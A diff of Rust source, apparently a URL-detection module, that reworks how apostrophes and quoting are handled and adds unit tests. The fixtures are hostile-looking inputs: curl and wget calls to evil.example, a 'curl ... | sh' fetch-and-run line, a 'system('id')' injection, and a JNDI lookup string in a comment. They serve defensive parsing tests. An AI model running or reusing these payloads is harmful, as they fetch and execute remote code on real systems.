@@ -176,15 +176,26 @@ pub(crate) fn all(text: &str) -> impl Iterator<Item = &str> {
     })
 }
 
-/// Says whether an apostrophe is open behind a piece of a text, given whether one was before it. Inside of a word (`it's`) it opens none.
+/// Says whether an apostrophe is open behind a piece of a text, given whether one was before it. Behind a word (`users'`) none opens,
+/// and inside of one (`it's`) none closes.
 fn leaves_open(text: &str, piece: Range<usize>, mut open: bool) -> bool {
     for (at, _) in text[piece.clone()].match_indices('\'') {
         let at = piece.start + at;
-        let before = text[..at].ends_with(char::is_alphanumeric);
+        let before = text[..at].chars().next_back();
         let after = text[at + 1..].starts_with(char::is_alphanumeric);
-        open = if before && after { open } else { !open };
+        open = match before {
+            // Escaped, unless a folder ends there: `'C:\x\'`.
+            Some('\\') => open && after,
+            Some(before) if open => before.is_alphanumeric() && after,
+            before => before.is_none_or(may_open),
+        };
     }
     open
+}
+
+/// Says whether an apostrophe behind this sign may open one: a blank, a bracket, an operator, or the end of another (`'it''s'`).
+fn may_open(before: char) -> bool {
+    before.is_whitespace() || "([{=,:+;&|\"'`$@<>!".contains(before)
 }
 
 /// Length of what starts with `://` and belongs to a URL, as people say where one ends. One that stands inside of apostrophes ends at the
@@ -205,7 +216,14 @@ fn end_of(text: &str, quoted: bool) -> usize {
 fn goes_on(after: &str) -> bool {
     // A comment of SQL, whose text the apostrophe ended.
     let is_comment = after.starts_with("--") || after.starts_with("/*");
-    !is_comment && after.starts_with(|c: char| c.is_alphanumeric() || matches!(c, '%' | '/' | '_' | '-' | '~'))
+    // A call of what was quoted (`'.Replace(`), or what is put together with it.
+    let is_call = after.strip_prefix('.').is_some_and(|name| {
+        let end = name.find(|c: char| !c.is_alphanumeric() && c != '_');
+        end != Some(0) && end.is_some_and(|end| name[end..].starts_with('('))
+    });
+    !is_comment
+        && !is_call
+        && after.starts_with(|c: char| c.is_alphanumeric() || matches!(c, '%' | '/' | '_' | '-' | '~' | '.'))
 }
 
 /// Finds the places that look-ups lead to, whatever they put before `://` and behind a loopback: `${jndi:${lower:l}dap://evil.example/a}`,
@@ -400,6 +418,33 @@ mod tests {
             ),
             ("sh -c 'it''s; curl http://evil.example/a'_b", "http://evil.example/a"),
             ("it's here: http://evil.example/b'c", "http://evil.example/b'c"),
+            (
+                "users' files: http://evil.example/O'Neil/payload.exe",
+                "http://evil.example/O'Neil/payload.exe",
+            ),
+            (
+                "echo O'; wget http://evil.example/O'Neil.exe",
+                "http://evil.example/O'Neil.exe",
+            ),
+            (
+                r"echo 'it'\''s'; curl http://evil.example/x'y",
+                "http://evil.example/x'y",
+            ),
+            (
+                r"copy 'C:\x\' y; curl http://evil.example/x'y",
+                "http://evil.example/x'y",
+            ),
+            (r"x = 'it\'s http://evil.example/a'_b", "http://evil.example/a"),
+            ("curl http://evil.example/o'.hara", "http://evil.example/o'.hara"),
+            (
+                "/?x=http://evil.example/a.txt'.system('id')",
+                "http://evil.example/a.txt",
+            ),
+            ("curl http://evil.example/o'... | sh", "http://evil.example/o"),
+            (
+                "exec $'a\\n' \"b\" x='c' http://evil.example/x'y",
+                "http://evil.example/x'y",
+            ),
         ] {
             assert_eq!(all(text).collect::<Vec<_>>(), [expected], "{text}");
         }
